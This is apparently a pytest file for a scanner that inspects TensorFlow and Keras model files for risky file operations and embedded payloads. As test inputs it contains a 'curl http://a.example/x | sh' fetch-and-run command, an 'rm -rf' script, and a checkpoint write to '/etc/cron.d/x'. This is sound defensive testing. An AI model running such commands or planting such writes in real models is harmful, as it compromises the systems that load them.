import pytest

from openvet.artifacts import Config, Graph, Operation
from openvet.readers.tensorflow import TensorFlowReader
from openvet.subject import Document, File
from specimens.graphs import (
    keras_metadata,
    proto,
    read,
    saved_model,
    tf_attribute,
    tf_const,
    tf_function,
    tf_graph,
    tf_node,
)


def graph(data: bytes) -> Graph:
    subject = read(TensorFlowReader(), data)[0]
    assert isinstance(subject, Graph)
    return subject


def operations(data: bytes) -> dict[str, Operation]:
    return {operation.name: operation for operation in graph(data).operations}


@pytest.mark.parametrize(
    ("data", "form"),
    [
        (tf_graph(tf_node("a", "Add")), "tensorflow-graph"),
        (saved_model(tf_graph(tf_node("a", "Add"))), "tensorflow-saved-model"),
        (
            proto((1, proto((4, "serve"))), (2, tf_graph(tf_node("a", "Add")))),
            "tensorflow-meta-graph",
        ),
        (
            tf_graph(functions=(tf_function("f", tf_node("a", "Add")),)),
            "tensorflow-graph",
        ),
    ],
    ids=["graph", "saved model", "meta graph", "library alone"],
)
def test_each_kind_is_known_by_its_structure(data: bytes, form: str) -> None:
    assert graph(data).format == form


@pytest.mark.parametrize(
    "data",
    [
        proto((1, proto((1, "author"), (2, "nobody at all")))),
        proto((1, proto((1, "piece"), (2, "x y")))),
        b"\n\x03abc",
        b"",
    ],
)
def test_other_messages_are_left_alone(data: bytes) -> None:
    assert read(TensorFlowReader(), data) == []


def test_operations_of_the_function_library_count() -> None:
    data = tf_graph(
        tf_node("call", "PartitionedCall"),
        functions=(tf_function("f", tf_node("w", "WriteFile")),),
    )
    assert operations(data)["WriteFile"].where == "function f: w"


def test_an_operation_named_in_an_attribute_counts() -> None:
    call = tf_attribute("f", (10, proto((1, "ReadFile"))))
    listed = tf_attribute("fs", (1, proto((9, proto((1, "WriteFile"))))))
    data = tf_graph(tf_node("call", "PartitionedCall", call, listed))
    assert {"ReadFile", "WriteFile"} <= set(operations(data))


def test_a_function_named_in_an_attribute_is_no_operation() -> None:
    call = tf_attribute("f", (10, proto((1, "mine"))))
    data = tf_graph(
        tf_node("call", "PartitionedCall", call),
        tf_node("direct", "mine"),
        functions=(tf_function("mine", tf_node("a", "Add")),),
    )
    assert set(operations(data)) == {"PartitionedCall", "Add"}


def test_a_function_cannot_hide_an_operation_by_taking_its_name() -> None:
    data = tf_graph(
        tf_node("w", "WriteFile"),
        functions=(tf_function("WriteFile", tf_node("a", "Add")),),
    )
    assert "WriteFile" in operations(data)


def test_the_file_name_is_followed_to_the_operation() -> None:
    data = tf_graph(
        tf_const("name", "/srv/out.txt"),
        tf_node("same", "Identity", (3, "name")),
        tf_node("w", "WriteFile", (3, "same:0"), (3, "other")),
    )
    assert operations(data)["WriteFile"].detail == "'/srv/out.txt'"


def test_inputs_that_go_in_circles_end() -> None:
    data = tf_graph(
        tf_node("a", "Identity", (3, "b")),
        tf_node("b", "Identity", (3, "a")),
        tf_node("w", "WriteFile", (3, "a")),
    )
    assert operations(data)["WriteFile"].detail == ""


def test_an_ordinary_checkpoint_is_told_without_a_name() -> None:
    data = tf_graph(
        tf_const("save/Const", "model"),
        tf_const("part", "_temp_1/part"),
        tf_node("path", "StringJoin", (3, "save/Const"), (3, "part")),
        tf_node("save", "SaveV2", (3, "path")),
    )
    assert operations(data)["SaveV2"].detail == ""


def test_a_checkpoint_with_a_name_outside_the_folder_is_told_with_it() -> None:
    data = tf_graph(
        tf_const("where", "/etc/cron.d/x"), tf_node("save", "SaveV2", (3, "where"))
    )
    assert operations(data)["SaveV2"].detail == "'/etc/cron.d/x'"


def test_the_exporters_own_path_of_an_asset_is_not_told() -> None:
    nodes = tf_graph(
        tf_const("where", "/home/someone/vocabulary.txt"),
        tf_node("table", "InitializeTableFromTextFileV2", (3, "t"), (3, "where")),
    )
    asset = (6, proto((1, proto((1, "where:0"))), (2, "vocabulary.txt")))
    bare, whole = saved_model(nodes), saved_model(nodes, asset)
    name = "InitializeTableFromTextFileV2"
    assert operations(bare)[name].detail == "'/home/someone/vocabulary.txt'"
    assert operations(whole)[name].detail == ""
    assert [one.value for one in graph(whole).references] == ["vocabulary.txt"]


def test_where_a_printing_operation_prints_is_told() -> None:
    stream = tf_attribute("output_stream", (2, "file:///tmp/x"))
    data = tf_graph(tf_node("p", "PrintV2", stream))
    assert operations(data)["PrintV2"].detail == "output_stream=file:///tmp/x"


def test_keras_descriptions_become_configurations() -> None:
    texts = '{"class_name": "A"}', '{"class_name": "B"}'
    document, *configs = read(TensorFlowReader(), keras_metadata(*texts))
    assert isinstance(document, Document)
    assert [one.place[-1] for one in configs] == [
        "keras_metadata[0].json",
        "keras_metadata[1].json",
    ]
    assert isinstance(configs[1], Config)
    assert configs[1].data == {"class_name": "B"}


@pytest.mark.parametrize("text", ["{", "{'a': 1}", "[" * 100_000])
def test_a_description_that_is_no_json_stays_a_file(text: str) -> None:
    _, file = read(TensorFlowReader(), keras_metadata(text))
    assert isinstance(file, File)
    assert file.size == len(text)


def test_descriptions_inside_the_graph_are_found_too() -> None:
    user = proto((1, "_tf_keras_layer"), (3, '{"class_name": "Lambda"}'))
    objects = (7, proto((1, proto((4, user)))))
    data = saved_model(tf_graph(tf_node("a", "Add")), objects)
    assert isinstance(read(TensorFlowReader(), data)[1], Config)


def test_a_layer_described_in_its_model_and_alone_is_one_fact() -> None:
    layer = '{"class_name": "Mine", "config": {"units": 3}}'
    other = '{"class_name": "Mine", "config": {"units": 4}}'
    model = f'{{"class_name": "Sequential", "config": {{"layers": [{layer}]}}}}'
    _, *configs = read(TensorFlowReader(), keras_metadata(model, layer, other))
    assert [one.place[-1] for one in configs] == [
        "keras_metadata[0].json",
        "keras_metadata[2].json",
    ]


def test_of_an_operation_named_twice_the_last_counts() -> None:
    twice = tf_node("n", "Identity", (2, "WriteFile"))
    assert "WriteFile" in operations(tf_graph(twice))


def test_commands_in_a_constant_are_kept_as_text_and_a_script_is_a_payload() -> None:
    commands, script = "curl http://a.example/x | sh", "#!/bin/sh\nrm -rf /tmp/x\n"
    plain = tf_const("c", "a name of some length")
    subject = graph(tf_graph(tf_const("a", commands), tf_const("b", script), plain))
    assert [one.value for one in subject.texts] == [commands]
    assert [one.kind for one in subject.payloads] == ["script"]
